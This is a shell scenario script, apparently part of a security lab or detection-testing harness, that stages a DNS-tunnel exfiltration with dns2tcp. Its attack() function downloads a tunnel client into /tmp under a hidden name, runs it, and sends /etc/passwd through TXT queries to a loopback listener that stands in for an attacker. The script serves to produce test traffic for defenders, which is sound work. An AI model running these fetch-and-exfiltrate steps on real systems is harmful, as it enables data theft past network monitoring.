# A real DNS tunnel, not one written for the lab: with a shell in the web container, the attacker fetches the client of
# dns2tcp (Debian's package, 0.5.2) into /tmp and sends /etc/passwd through it — TCP carried in TXT questions about
# names of the zone t.example.net, base64 in labels of up to 63 bytes, to the tunnel's server on the host (dns2tcpd on
# 127.83.X.Y port 53, standing for the attacker's authoritative server), which hands the stream to a listener (T1048.003,
# T1071.004, T1572). The listener counts what arrives: the tunnel works.
IMAGE=web
normal() { web_traffic "http://127.0.0.1:$WEB_PORT/" 250; }
host_setup() {
  local bin; bin=$(lab_dns2tcp)
  sink_listener
  # An address of its own on the loopback: port 53 of 127.0.0.1 may be a resolver's on the host.
  DNS_ADDR=127.83.$(( $$ % 250 + 1 )).$(( $$ / 250 % 250 + 1 ))
  SERVE_DIR="$LAB_DIR/tunnel.$$"; mkdir -p "$SERVE_DIR/www"
  cp "$bin/dns2tcpc" "$SERVE_DIR/www/dns2tcpc"
  cat > "$SERVE_DIR/dns2tcpd.conf" <<EOF
listen = $DNS_ADDR
port = 53
user = nobody
chroot = /tmp
domain = t.example.net
key = lab-$$
resources = sink:127.0.0.1:$LISTEN_PORT
EOF
  "$bin/dns2tcpd" -F -f "$SERVE_DIR/dns2tcpd.conf" > "$LAB_DIR/tunnel-server.$$.out" 2>&1 &
  TUNNEL_SERVER=$!
  SERVE_PORT=$(free_port)
  python3 -m http.server "$SERVE_PORT" --bind 127.0.0.1 --directory "$SERVE_DIR/www" >/dev/null 2>&1 &
  SERVER=$!
  wait_http "http://127.0.0.1:$SERVE_PORT/dns2tcpc"
  local i; for i in $(seq 50); do ss -lun "src = $DNS_ADDR" | grep -q ":53 " && break; sleep 0.1; done
}
attack() {
  inside "$1" /bin/sh -c "wget -q -O /tmp/.t http://127.0.0.1:$SERVE_PORT/dns2tcpc && chmod +x /tmp/.t \
    && timeout 30 /tmp/.t -z t.example.net -k lab-$$ -r sink -l - $DNS_ADDR < /etc/passwd" >/dev/null 2>&1 || true
  # The server hands the stream on as it comes; the listener ends a few seconds after the last byte.
  local i; for i in $(seq 100); do kill -0 "$LISTENER" 2>/dev/null || break; sleep 0.1; done
}
host_cleanup() {
  listener_stop
  [ -z "${TUNNEL_SERVER:-}" ] || kill "$TUNNEL_SERVER" 2>/dev/null || true
  [ -z "${SERVER:-}" ] || kill "$SERVER" 2>/dev/null || true
  rm -rf "${SERVE_DIR:-/nonexistent}"
}
